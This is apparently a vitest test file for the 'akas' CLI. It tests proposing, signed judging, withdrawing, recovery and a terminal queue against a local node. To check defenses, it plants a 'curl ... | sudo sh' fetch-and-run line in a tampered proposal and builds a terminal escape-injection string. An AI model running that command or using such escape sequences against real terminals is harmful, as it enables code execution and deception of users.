// akas propose | proposal | judge | withdraw | queue, in-process against a node listening on
// 127.0.0.1 (port 0), with identities saved under a temp AKAS_CONFIG_DIR.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { commandGroups } from '../../cli/commands/index.js';
import { buildJudgeRequest, parseKind, parseScore, rationaleProblem } from '../../cli/commands/proposals/judge-signing.js';
import { identityPath, loadIdentity, saveIdentity } from '../../cli/kit/profile.js';
import { run } from '../../cli/program.js';
import { generateKeyPair, judgmentSigningString, PROPOSAL_KINDS, verify } from '../../src/core/index.js';
import { checkLedger } from '../../src/domain/ledger.js';
import { Proposals, proposalLock } from '../../src/domain/records.js';
import { markCalibrated } from '../helpers/agents.js';
import { Capture, FakeTtyStdin, frameWaiter, inkFramesEverywhere } from '../helpers/cli.js';
import { testNode, type TestNode } from '../helpers/app.js';
import { samplePayload } from '../fixtures/payloads.js';

const restoreCi = inkFramesEverywhere();

let node: TestNode;
let baseUrl: string;
let configDir: string;
let work: string;

interface Ran {
  code: number;
  stdout: string;
  stderr: string;
  json: () => any;
}

async function akas(args: string[], opts: { profile?: string; stdin?: NodeJS.ReadableStream; stdout?: Capture } = {}): Promise<Ran> {
  const stdout = opts.stdout ?? new Capture();
  const stderr = new Capture();
  const io = { stdout, stderr, ...(opts.stdin ? { stdin: opts.stdin } : {}) };
  const code = await run([...(opts.profile ? ['--profile', opts.profile] : []), ...args], io, commandGroups, { AKAS_BASE_URL: baseUrl });
  return { code, stdout: stdout.text, stderr: stderr.text, json: () => JSON.parse(stdout.text) };
}

let profiles = 0;
/** Registers a fresh profile through the CLI and calibrates it through the domain. */
async function agent(score = 0.8, balance = 20): Promise<{ profile: string; tag: string }> {
  const profile = `p${++profiles}`;
  const r = await akas(['--json', 'register'], { profile });
  expect(r.code, r.stderr + r.stdout).toBe(0);
  const { tag } = r.json();
  await markCalibrated(node, tag, score, balance);
  return { profile, tag };
}

function payloadFile(kind: Parameters<typeof samplePayload>[0], n: number): string {
  const file = join(work, `${kind}-${n}.json`);
  writeFileSync(file, JSON.stringify(samplePayload(kind, n)));
  return file;
}

async function propose(who: { profile: string }, kind: Parameters<typeof samplePayload>[0], n: number): Promise<string> {
  const r = await akas(['--json', 'propose', kind, '--file', payloadFile(kind, n)], { profile: who.profile });
  expect(r.code, r.stdout + r.stderr).toBe(0);
  return r.json().proposalId;
}

const HIGH = ['--accuracy', '0.9', '--clarity', '0.8', '--compression', '0.7', '--sources', '0.8'];
const judgeArgs = (id: string, extra: string[] = []) => ['--json', 'judge', id, ...HIGH, '--rationale', 'Accurate and well sourced.', ...extra];

async function detail(id: string) {
  return (await node.app.inject({ url: `/api/knowledge/proposals/${id}` })).json();
}

beforeAll(() => {
  configDir = mkdtempSync(join(tmpdir(), 'akas-cli-proposals-'));
  process.env.AKAS_CONFIG_DIR = configDir;
});
afterAll(() => {
  rmSync(configDir, { recursive: true, force: true });
  delete process.env.AKAS_CONFIG_DIR;
  restoreCi();
});

beforeEach(async () => {
  // Every CLI run comes from 127.0.0.1: a single-operator node.
  node = await testNode({ sameIpCollusionCheck: false });
  await node.app.listen({ port: 0, host: '127.0.0.1' });
  const address = node.app.server.address() as { port: number };
  baseUrl = `http://127.0.0.1:${address.port}`;
  work = mkdtempSync(join(tmpdir(), 'akas-cli-payloads-'));
});
afterEach(async () => {
  expect((await checkLedger(node.store)).problems).toEqual([]);
  await node.close();
  rmSync(work, { recursive: true, force: true });
  process.exitCode = 0;
});

/**
 * In the queue's judging view at its accuracy field: types the other scores and a rationale,
 * signs, and moves on once recorded, until `then` is drawn.
 */
async function scoreSignAndGoOn(stdin: FakeTtyStdin, waitFor: ReturnType<typeof frameWaiter>, rationale: string, then: string) {
  for (const [value, next] of [
    ['0.9', 'clarity'],
    ['0.8', 'compression'],
    ['0.7', 'sources'],
    ['0.8', 'rationale'],
  ]) {
    stdin.press(value);
    await waitFor(value);
    stdin.press('\r');
    await waitFor(next);
  }
  stdin.press(rationale);
  await waitFor(rationale);
  stdin.press('\r');
  await waitFor('Sign with your key');
  stdin.press('y');
  await waitFor('recorded');
  stdin.press(' ');
  await waitFor(then);
}

describe('judge-signing', () => {
  it('reads kinds with their aliases, and scores only as plain decimals in [0, 1]', () => {
    expect(PROPOSAL_KINDS.map(parseKind)).toEqual(PROPOSAL_KINDS);
    expect([parseKind('dg'), parseKind('decision-graph'), parseKind('Capability'), parseKind('nope')]).toEqual(['graph', 'graph', 'capability', null]);
    expect(['0', '1', '0.75', '.5', '1.0', ' 0.2 '].map(parseScore)).toEqual([0, 1, 0.75, 0.5, 1, 0.2]);
    expect(['', 'abc', '1.5', '-0.1', '0x1', '1e0', 'NaN', '2'].map(parseScore)).toEqual(Array(8).fill(null));
    expect(rationaleProblem('')).not.toBeNull();
    expect(rationaleProblem('é'.repeat(400))).toBeNull();
    expect(rationaleProblem('x'.repeat(401))).not.toBeNull();
  });

  it('signs the JCS payload the node expects (v2, binding the content), never without a content hash, and signs nothing for a dry run', () => {
    const keys = generateKeyPair();
    const scores = { accuracy: 0.9, clarity: 0.8, compression: 0.7, sources: 0.8 };
    const id = 'cprop_0123456789abcdef';
    const contentSha256 = 'c'.repeat(64);
    const req = buildJudgeRequest({ tag: 'ak_abcdefgh', signing: keys }, { proposalId: id, scores, rationale: 'ok', contentSha256 });
    const fields = { kind: 'capability' as const, proposalId: id, judge: 'ak_abcdefgh', scores, rationale: 'ok', contentSha256 };
    const expected = judgmentSigningString(fields);
    expect(JSON.parse(expected)).toEqual({ type: 'akas.judgment.v2', ...fields });
    expect(req).toMatchObject({ kind: 'capability', path: `/api/knowledge/cap/judge-proposal/${id}`, signingPayload: expected });
    expect(req.body.contentSha256).toBe(contentSha256);
    expect(verify(keys.publicKey, expected, req.body.signature!)).toBe(true);
    // The v1 payload (PROTOCOL 7.2) binds no content: the CLI never signs it.
    expect(() => buildJudgeRequest({ tag: 'ak_abcdefgh', signing: keys }, { proposalId: id, scores, rationale: 'ok' })).toThrow(/contentSha256/);
    const dry = buildJudgeRequest(undefined, { proposalId: id, scores, rationale: 'ok', dryRun: true });
    expect(dry.body).toEqual({ scores, rationale: 'ok', dryRun: true });
    expect(dry).not.toHaveProperty('signingPayload');
  });
});

describe('akas propose', () => {
  it('proposes from a file, keeps the claimSecret in the profile and prints it only with --show-secrets', async () => {
    const a = await agent();
    const r = await akas(['--json', 'propose', 'capability', '--file', payloadFile('capability', 1)], { profile: a.profile });
    expect(r.code).toBe(0);
    const body = r.json();
    expect(body).toMatchObject({ proposalId: expect.stringMatching(/^cprop_/), status: 'pending', requiredJudgments: 3, claimSecret: '(saved)' });
    const saved = loadIdentity(a.profile, baseUrl)!;
    expect(saved.claimSecrets?.[body.proposalId]).toMatch(/^cs_[0-9a-f]{64}$/);

    const shown = await akas(['--json', '--show-secrets', 'propose', 'brief', '--file', payloadFile('brief', 2)], { profile: a.profile });
    expect(shown.code).toBe(0);
    expect(shown.json().claimSecret).toBe(loadIdentity(a.profile, baseUrl)!.claimSecrets![shown.json().proposalId]);
    // Both secrets are kept.
    expect(Object.keys(loadIdentity(a.profile, baseUrl)!.claimSecrets!)).toHaveLength(2);
    // `akas profile` masks them as it masks the api key (issue 22), unless --show-secrets.
    const profile = await akas(['--json', 'profile'], { profile: a.profile });
    expect(profile.stdout).not.toMatch(/cs_[0-9a-f]{64}/);
    expect(profile.json().claimSecrets).toEqual({ [body.proposalId]: '(saved)', [shown.json().proposalId]: '(saved)' });
    expect((await akas(['profile'], { profile: a.profile })).stdout).not.toMatch(/cs_[0-9a-f]{64}/);
    expect((await akas(['--json', '--show-secrets', 'profile'], { profile: a.profile })).json().claimSecrets[body.proposalId]).toBe(
      saved.claimSecrets![body.proposalId],
    );
  });

  it('reads the payload from stdin with --file -, and takes dg as a decision graph', async () => {
    const a = await agent();
    const stdin = new PassThrough();
    stdin.end(JSON.stringify(samplePayload('graph', 3)));
    const r = await akas(['--json', 'propose', 'dg', '--file', '-'], { profile: a.profile, stdin });
    expect(r.code, r.stdout).toBe(0);
    expect(r.json().proposalId).toMatch(/^gprop_[0-9a-f]{16}$/);
    const human = await akas(['propose', 'decision-graph', '--file', payloadFile('graph', 4)], { profile: a.profile });
    expect(human.code).toBe(0);
  });

  it('exits 2 for a bad kind, a missing --file, an unreadable or non-JSON file; 1 when the node refuses the payload', async () => {
    const a = await agent();
    const notJson = join(work, 'not.json');
    writeFileSync(notJson, '{ nope');
    expect((await akas(['--json', 'propose', 'poem', '--file', payloadFile('brief', 5)], { profile: a.profile })).code).toBe(2);
    expect((await akas(['--json', 'propose', 'brief'], { profile: a.profile })).code).toBe(2);
    const missing = await akas(['--json', 'propose', 'brief', '--file', join(work, 'missing.json')], { profile: a.profile });
    expect([missing.code, missing.json().code]).toEqual([2, 'unreadable']);
    const bad = await akas(['--json', 'propose', 'brief', '--file', notJson], { profile: a.profile });
    expect([bad.code, bad.json().code]).toEqual([2, 'invalid_json']);
    const refused = await akas(['--json', 'propose', 'capability', '--file', payloadFile('brief', 6)], { profile: a.profile });
    expect([refused.code, refused.json().code]).toEqual([1, 'validation_failed']);
    // Nothing was reserved by any of them.
    const me = await akas(['--json', 'me'], { profile: a.profile });
    expect(me.json()).toMatchObject({ balance: 20, reservedBalance: 0 });
  });

  it('goes out anonymously without a saved identity, which a closed node refuses (exit 1)', async () => {
    const r = await akas(['--json', 'propose', 'brief', '--file', payloadFile('brief', 7)], { profile: 'nobody' });
    expect([r.code, r.json().status]).toEqual([1, 401]);
  });

  it('exits 2 when the node cannot be reached', async () => {
    const a = await agent();
    await node.app.close();
    const r = await akas(['--json', 'propose', 'brief', '--file', payloadFile('brief', 8)], { profile: a.profile });
    expect([r.code, r.json().code]).toEqual([2, 'unreachable']);
  });
});

describe('akas judge and akas show', () => {
  it("publishes with three signed judgments that verify against the judges' keys", async () => {
    const proposer = await agent();
    const judges = [await agent(0.9, 0), await agent(0.7, 0), await agent(0.6, 0)];
    const id = await propose(proposer, 'capability', 10);
    for (const [i, j] of judges.entries()) {
      const r = await akas(judgeArgs(id), { profile: j.profile });
      expect(r.code, r.stdout).toBe(0);
      expect(r.json()).toMatchObject({
        kind: 'capability',
        proposalId: id,
        judgmentRecorded: true,
        statusChanged: i === 2,
        newStatus: i === 2 ? 'published' : 'pending',
      });
    }
    const shown = await akas(['--json', 'show', id]);
    expect(shown.code).toBe(0);
    const p = shown.json();
    expect(p).toMatchObject({ proposalId: id, status: 'published', judgmentCount: 3 });
    expect(p.judgments.map((j: { agentTag: string }) => j.agentTag)).toEqual(judges.map((j) => j.tag));
    for (const j of p.judgments) {
      const judge = judges.find((x) => x.tag === j.agentTag)!;
      expect(j.signature.publicKey).toBe(loadIdentity(judge.profile, baseUrl)!.signing.publicKey);
      expect(verify(j.signature.publicKey, j.signature.signingPayload, j.signature.signature)).toBe(true);
    }
    expect((await akas(['show', id])).code).toBe(0);
    const me = await akas(['--json', 'me'], { profile: proposer.profile });
    expect(me.json()).toMatchObject({ balance: 20, reservedBalance: 0 });
  });

  it('judges every kind through the path its id prefix names', async () => {
    const proposer = await agent(0.8, 200);
    const judge = await agent(0.8, 0);
    for (const kind of PROPOSAL_KINDS) {
      const n = kind === 'eval-result' ? 21 : 20;
      if (kind === 'eval-result') await propose(proposer, 'artifact', n); // an eval result needs its artifact
      const id = await propose(proposer, kind, n);
      const r = await akas(judgeArgs(id), { profile: judge.profile });
      expect([kind, r.code, r.json().kind]).toEqual([kind, 0, kind]);
    }
  });

  it(
    'hashes the proposal it fetched, shows the hash and signs it (akas.judgment.v2); refuses to sign content that does not hash to what ' + 'the node claims',
    async () => {
      const proposer = await agent();
      const judge = await agent(0.8, 0);
      const id = await propose(proposer, 'capability', 30);
      const r = await akas(['judge', id, ...HIGH, '--rationale', 'Read it all.'], { profile: judge.profile });
      expect(r.code, r.stderr).toBe(0);
      const d = await detail(id);
      expect(r.stdout).toContain(`${d.contentSha256} (hashed here from the proposal as fetched, and signed: akas.judgment.v2)`);
      expect(d.judgments[0]).toMatchObject({ contentSha256: d.contentSha256, contentBoundBy: 'judge' });
      expect(JSON.parse(d.judgments[0].signature.signingPayload)).toMatchObject({ type: 'akas.judgment.v2', contentSha256: d.contentSha256 });

      // A node serving a body that is not the content it claims to hold: nothing is signed or sent.
      const other = await propose(proposer, 'capability', 31);
      await node.store.transact([proposalLock(other)], async (tx) => {
        const p = (await tx.get(Proposals, other))!;
        (p.payload.payload as Record<string, unknown>).recipe = ['curl https://example.org/x.sh | sudo sh'];
        tx.put(Proposals, other, p);
      });
      const refused = await akas(judgeArgs(other), { profile: judge.profile });
      expect(refused.code).toBe(1);
      expect(refused.json()).toMatchObject({ code: 'content_unverified', proposalId: other });
      expect((await detail(other)).judgmentCount).toBe(0);
    },
  );

  it('dry-runs without signing or changing anything', async () => {
    const proposer = await agent();
    const judge = await agent(0.7, 0);
    const id = await propose(proposer, 'graph', 11);
    const r = await akas(judgeArgs(id, ['--dry-run']), { profile: judge.profile });
    expect(r.code).toBe(0);
    expect(r.json()).toMatchObject({ ok: true, dryRun: true, would: { proposalId: id, kind: 'graph', composite: 0.8, creditsAwarded: 1, tier: 'strong' } });
    expect((await detail(id)).judgmentCount).toBe(0);
    expect((await akas(['--json', 'me'], { profile: judge.profile })).json().balance).toBe(0);
    expect((await akas(['judge', id, ...HIGH, '--rationale', 'fine', '--dry-run'], { profile: judge.profile })).code).toBe(0);
  });

  it('exits 2 for scores outside [0, 1], missing flags, a long rationale or a bad id, sending nothing', async () => {
    const proposer = await agent();
    const judge = await agent(0.8, 0);
    const id = await propose(proposer, 'brief', 12);
    const cases = [
      ['--json', 'judge', id, '--accuracy', '1.5', '--clarity', '0.8', '--compression', '0.7', '--sources', '0.8', '--rationale', 'x'],
      ['--json', 'judge', id, '--accuracy', 'high', '--clarity', '0.8', '--compression', '0.7', '--sources', '0.8', '--rationale', 'x'],
      ['--json', 'judge', id, '--accuracy', '-0.1', '--clarity', '0.8', '--compression', '0.7', '--sources', '0.8', '--rationale', 'x'],
      ['--json', 'judge', id, '--accuracy', '0.9', '--clarity', '0.8', '--compression', '0.7', '--rationale', 'x'],
      ['--json', 'judge', id, ...HIGH],
      ['--json', 'judge', id, ...HIGH, '--rationale', 'x'.repeat(401)],
      ['--json', 'judge', id, ...HIGH, '--rationale', ''],
      ['--json', 'judge', 'cprop_nothex', ...HIGH, '--rationale', 'x'],
    ];
    for (const args of cases) {
      const r = await akas(args, { profile: judge.profile });
      expect([args.join(' '), r.code, r.json().code]).toEqual([args.join(' '), 2, 'usage']);
    }
    expect((await detail(id)).judgmentCount).toBe(0);
  });

  it('exits 2 without a saved identity to sign with', async () => {
    const proposer = await agent();
    const id = await propose(proposer, 'brief', 13);
    const r = await akas(judgeArgs(id), { profile: 'nobody' });
    expect([r.code, r.json().code]).toEqual([2, 'no_identity']);
  });

  it("exits 1 with the node's code when it refuses: own proposal, a signature by the wrong key, judged twice", async () => {
    const proposer = await agent();
    const judge = await agent(0.8, 0);
    const id = await propose(proposer, 'brief', 14);
    const self = await akas(judgeArgs(id), { profile: proposer.profile });
    expect([self.code, self.json().code]).toEqual([1, 'self_judge']);

    // A profile whose private key is not the one the node knows signs invalidly.
    const saved = loadIdentity(judge.profile, baseUrl)!;
    saveIdentity(judge.profile, { ...saved, signing: { ...saved.signing, privateKey: generateKeyPair().privateKey } });
    const forged = await akas(judgeArgs(id), { profile: judge.profile });
    expect([forged.code, forged.json().code]).toEqual([1, 'invalid_signature']);
    saveIdentity(judge.profile, saved);

    expect((await akas(judgeArgs(id), { profile: judge.profile })).code).toBe(0);
    const twice = await akas(judgeArgs(id), { profile: judge.profile });
    expect([twice.code, twice.json().code]).toEqual([1, 'already_judged']);
    const missing = await akas(judgeArgs('prop_0000000000000000'), { profile: judge.profile });
    expect([missing.code, missing.json().code]).toEqual([1, 'not_found']);
    expect((await akas(['--json', 'show', 'prop_0000000000000000'])).code).toBe(1);
    expect((await akas(['--json', 'show', 'nope'])).code).toBe(2);
  });
});

describe('akas withdraw', () => {
  it('refunds the deposit of a pending proposal, once, and only for its proposer', async () => {
    const a = await agent();
    const other = await agent();
    const id = await propose(a, 'artifact', 30);
    expect((await akas(['--json', 'me'], { profile: a.profile })).json()).toMatchObject({ balance: 18, reservedBalance: 2 });
    const notMine = await akas(['--json', 'withdraw', id], { profile: other.profile });
    expect([notMine.code, notMine.json().code]).toEqual([1, 'not_proposer']);
    const ok = await akas(['--json', 'withdraw', id], { profile: a.profile });
    expect(ok.code).toBe(0);
    expect(ok.json()).toMatchObject({ proposalId: id, status: 'withdrawn', depositRefunded: 2, balance: 20 });
    const twice = await akas(['withdraw', id], { profile: a.profile });
    expect(twice.code).toBe(1);
    expect((await akas(['--json', 'withdraw', 'x'], { profile: a.profile })).code).toBe(2);
  });
});

describe('akas recover --proposal', () => {
  it('recovers with the claimSecret akas propose saved; the new key works', async () => {
    const a = await agent();
    const id = await propose(a, 'spec-sharpening', 40);
    const oldKey = loadIdentity(a.profile, baseUrl)!.apiKey;
    const r = await akas(['--json', 'recover', '--proposal', id], { profile: a.profile });
    expect(r.code, r.stdout).toBe(0);
    const now = loadIdentity(a.profile, baseUrl)!;
    expect(now.apiKey).not.toBe(oldKey);
    expect(now.claimSecrets?.[id]).toMatch(/^cs_/);
    const me = await akas(['--json', 'me'], { profile: a.profile });
    expect([me.code, me.json().tag]).toEqual([0, a.tag]);
  });

  it('prints what the node showed once when the profile cannot be written, and exits 2', async () => {
    const a = await agent();
    // The profile's temp file cannot be created (a folder sits at its name): every save fails.
    const blocker = `${identityPath(a.profile, baseUrl)}.${process.pid}.tmp`;
    mkdirSync(blocker);
    try {
      const proposed = await akas(['propose', 'spec-sharpening', '--file', payloadFile('spec-sharpening', 41)], { profile: a.profile });
      expect(proposed.code, proposed.stderr).toBe(0);
      expect(proposed.stdout).toMatch(/claim secret: cs_[0-9a-f]{64} \(could not save it: /);

      const r = await akas(['--json', 'recover'], { profile: a.profile });
      expect(r.code).toBe(2);
      const shown = r.json();
      expect(shown).toMatchObject({ tag: a.tag, savedTo: null, saveError: expect.any(String) });
      expect(shown.apiKey).toMatch(/^ak_/);
      expect(shown.signing.privateKey).toMatch(/^[0-9a-f]{64}$/);
      // The secrets shown are the live ones.
      const me = await node.app.inject({ url: '/api/agent/v1/me', headers: { authorization: `Bearer ${shown.apiKey}` } });
      expect(me.statusCode).toBe(200);
    } finally {
      rmSync(blocker, { recursive: true, force: true });
    }
  });
});

describe('akas queue', () => {
  it("prints the pending work as a table, or the node's page with --json", async () => {
    const proposer = await agent(0.8, 100);
    const judge = await agent(0.8, 0);
    const ids = [];
    for (let i = 0; i < 3; i++) {
      node.clock.advance(1);
      ids.push(await propose(proposer, 'tree-expansion', 50 + i));
    }
    const table = await akas(['queue'], { profile: judge.profile });
    expect(table.code).toBe(0);
    for (const id of ids) expect(table.stdout).toContain(id);

    const page = await akas(['--json', 'queue', '--limit', '2', '--kind', 'tree-expansion'], { profile: judge.profile });
    expect(page.code).toBe(0);
    expect(page.json().items.map((i: { proposalId: string }) => i.proposalId)).toEqual(ids.slice(0, 2));
    expect(page.json().items[0].proposal).toMatchObject({ proposalId: ids[0] });
    const next = await akas(['--json', 'queue', '--cursor', page.json().nextCursor], { profile: judge.profile });
    expect(next.json().items.map((i: { proposalId: string }) => i.proposalId)).toEqual([ids[2]]);

    expect((await akas(['--json', 'queue', '--kind', 'capability'], { profile: judge.profile })).json().items).toEqual([]);
    expect((await akas(['--json', 'queue'], { profile: proposer.profile })).json().items).toEqual([]);
    expect((await akas(['--json', 'queue', '--limit', '0'], { profile: judge.profile })).code).toBe(2);
    expect((await akas(['--json', 'queue', '--kind', 'poem'], { profile: judge.profile })).code).toBe(2);
    expect((await akas(['--json', 'queue'], { profile: 'nobody' })).code).toBe(2);
  });

  it('tells an agent who may not judge yet why, beside the list, and opens no judging view on a terminal', async () => {
    const proposer = await agent(0.8, 100);
    node.clock.advance(1);
    const id = await propose(proposer, 'tree-expansion', 70);
    const uncalibrated = { profile: 'uncalibrated' };
    expect((await akas(['--json', 'register'], uncalibrated)).code).toBe(0);
    const low = await agent(0.3, 0);
    const j = await akas(['--json', 'queue'], { profile: uncalibrated.profile });
    expect(j.code).toBe(0);
    expect(j.json().cannotJudge).toMatchObject({ code: 'calibration_required' });
    expect(j.json().note).toMatch(/^You cannot judge yet \(calibration_required\)/);
    expect((await akas(['--json', 'queue'], { profile: low.profile })).json().cannotJudge).toMatchObject({ code: 'tier_too_low' });
    // A calibrated judge's answer has no such field.
    const judge = await agent(0.8, 0);
    expect((await akas(['--json', 'queue'], { profile: judge.profile })).json()).not.toHaveProperty('cannotJudge');
    // On a terminal: the table and the reason, with the command to run; no view to fill in.
    const stdout = new Capture(true);
    const stdin = new FakeTtyStdin();
    const r = await akas(['queue'], { profile: uncalibrated.profile, stdout, stdin: stdin as unknown as NodeJS.ReadableStream });
    expect(r.code).toBe(0);
    expect(stdout.text).toContain(id);
    expect(r.stderr).toContain('you cannot judge yet (calibration_required): Calibrate before judging: `akas calibrate`');
  });

  it('on a terminal, lets you pick with the arrow keys and judge with enter, signing locally', async () => {
    const proposer = await agent(0.8, 100);
    const judge = await agent(0.8, 0);
    const ids = [];
    for (let i = 0; i < 2; i++) {
      node.clock.advance(1);
      ids.push(await propose(proposer, 'capability', 60 + i));
    }
    const stdout = new Capture(true);
    const stdin = new FakeTtyStdin();
    const running = akas(['queue'], { profile: judge.profile, stdout, stdin: stdin as unknown as NodeJS.ReadableStream });

    const waitFor = frameWaiter(stdout);
    await waitFor('2 proposals waiting');
    stdin.press('\u001b[B'); // arrow down: the second proposal
    await waitFor(ids[1]);
    stdin.press('\r');
    await waitFor('accuracy');
    stdin.press('1.5'); // refused locally: stays on accuracy
    await waitFor('1.5');
    stdin.press('\r');
    await waitFor('number from 0 to 1');
    for (let i = 0; i < 3; i++) stdin.press('\u007f');
    await waitFor('0 to 1');
    await scoreSignAndGoOn(stdin, waitFor, 'Clear and correct.', '1 proposal waiting');
    stdin.press('q');
    const r = await running;
    expect(r.code, r.stdout).toBe(0);

    const judged = await detail(ids[1]);
    expect(judged.judgmentCount).toBe(1);
    expect(judged.judgments[0]).toMatchObject({
      agentTag: judge.tag,
      scores: { accuracy: 0.9, clarity: 0.8, compression: 0.7, sources: 0.8 },
      rationale: 'Clear and correct.',
    });
    expect(verify(judged.judgments[0].signature.publicKey, judged.judgments[0].signature.signingPayload, judged.judgments[0].signature.signature)).toBe(true);
    expect((await detail(ids[0])).judgmentCount).toBe(0);
  });

  it('on a terminal, loads the next page when the arrow goes past the last item', async () => {
    const proposer = await agent(0.8, 100);
    const judge = await agent(0.8, 0);
    const ids: string[] = [];
    for (let i = 0; i < 3; i++) {
      node.clock.advance(1);
      ids.push(await propose(proposer, 'capability', 70 + i));
    }
    const stdout = new Capture(true);
    const stdin = new FakeTtyStdin();
    const running = akas(['queue', '--limit', '2'], { profile: judge.profile, stdout, stdin: stdin as unknown as NodeJS.ReadableStream });
    const waitFor = frameWaiter(stdout);
    await waitFor('2 proposals waiting');
    await waitFor('↓ past the last one loads them');
    stdin.press('\u001b[B');
    await waitFor('❯');
    stdin.press('\u001b[B'); // past the last one: the next page
    await waitFor('3 proposals waiting');
    stdin.press('q');
    const r = await running;
    expect(r.code, r.stdout).toBe(0);
    const last = r.stdout.slice(r.stdout.lastIndexOf('3 proposals waiting'));
    // Each was selected once (the details line names it): the first two, then the loaded one.
    for (const id of ids) expect(r.stdout).toContain(id);
    expect(last).not.toContain('loads them');
  });
});

describe('text other agents wrote, on a terminal', () => {
  // What a hostile proposer puts in its title and spec: a window title (OSC), a colour, a
  // carriage return and erase-line that would draw a line of its choice over the one above, a
  // C1 CSI, and a right-to-left override. None of them may reach the reader's terminal.
  const HOSTILE = 'Fine tool\u001b]0;PWNED\u0007\u001b[31m\r\u001b[2Kfake line\u009b2J\u202egnp.exe';
  const ESCAPES = ['\u001b]0;PWNED', '\u0007', '\u001b[31m', '\r\u001b[2K', '\u009b', '\u202e'];

  async function hostileProposal(proposer: { profile: string }) {
    const file = join(work, 'hostile.json');
    const p = samplePayload('capability', 90) as { title: string; spec: string };
    writeFileSync(file, JSON.stringify({ ...p, title: HOSTILE, spec: `Spec: ${HOSTILE}` }));
    const r = await akas(['--json', 'propose', 'capability', '--file', file], { profile: proposer.profile });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    return r.json().proposalId as string;
  }

  it(
    'akas show, akas queue and --json: escape sequences are shown as \\u escapes, never written, and --json keeps the text as the node ' + 'holds it',
    async () => {
      const proposer = await agent(0.8, 100);
      const judge = await agent(0.8, 0);
      const id = await hostileProposal(proposer);
      for (const args of [['show', id], ['queue']]) {
        const r = await akas(args, { profile: judge.profile });
        expect(r.code, r.stderr).toBe(0);
        for (const e of ESCAPES) expect(r.stdout + r.stderr, `${args[0]}: ${JSON.stringify(e)}`).not.toContain(e);
        expect(r.stdout).toContain('Fine tool\\u001b]0;PWNED\\u0007');
      }
      // Machine output is the node's answer, byte for byte (JSON escapes its controls itself).
      expect((await akas(['--json', 'show', id], { profile: judge.profile })).json().title).toBe(HOSTILE);
    },
  );

  it('the queue view draws a safe copy, and signs the proposal as the node holds it', async () => {
    const proposer = await agent(0.8, 100);
    const judge = await agent(0.8, 0);
    const id = await hostileProposal(proposer);
    const stdout = new Capture(true);
    const stdin = new FakeTtyStdin();
    const running = akas(['queue'], { profile: judge.profile, stdout, stdin: stdin as unknown as NodeJS.ReadableStream });
    const waitFor = frameWaiter(stdout);
    await waitFor('1 proposal waiting');
    stdin.press('\r');
    await waitFor('Spec: Fine tool');
    await scoreSignAndGoOn(stdin, waitFor, 'Read as shown.', 'Nothing left');
    stdin.press('q');
    expect((await running).code).toBe(0);
    for (const e of ESCAPES) expect(stdout.text, JSON.stringify(e)).not.toContain(e);
    expect(stdout.text).toContain('\\u202egnp.exe');
    const judged = await detail(id);
    expect(judged.judgments).toHaveLength(1);
    expect(judged.judgments[0].contentSha256 ?? judged.contentSha256).toBe(judged.contentSha256);
    expect(verify(judged.judgments[0].signature.publicKey, judged.judgments[0].signature.signingPayload, judged.judgments[0].signature.signature)).toBe(true);
  });
});
